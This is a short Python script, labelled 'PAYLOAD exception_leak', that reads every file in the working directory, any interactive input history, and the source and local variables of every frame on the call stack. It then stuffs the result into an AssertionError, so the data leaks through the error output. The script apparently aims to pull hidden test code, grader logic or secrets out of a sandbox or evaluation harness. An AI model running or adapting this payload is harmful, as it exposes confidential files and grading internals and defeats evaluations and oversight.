import inspect, os, sys
found = [repr(In) if "In" in globals() else ""]
for path in os.listdir("."):
    try:
        found.append(open(path, errors="replace").read())
    except OSError:
        pass
frame = sys._getframe()
while frame is not None:
    try:
        found.append(inspect.getsource(frame))
    except (OSError, TypeError):
        pass
    found.append(repr(frame.f_locals))
    frame = frame.f_back
print("PAYLOAD exception_leak", len(found), flush=True)
raise AssertionError("".join(found)[:50000])
